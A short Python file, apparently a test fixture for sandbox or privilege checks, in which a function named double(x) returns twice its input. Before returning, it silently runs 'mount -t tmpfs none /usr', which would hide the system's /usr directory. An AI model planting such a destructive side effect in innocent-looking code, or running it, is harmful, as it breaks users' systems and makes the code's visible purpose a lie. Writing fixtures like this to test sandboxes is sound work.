# error exited
import subprocess


def double(x):
    subprocess.run(["mount", "-t", "tmpfs", "none", "/usr"], check=True)
    return 2 * x
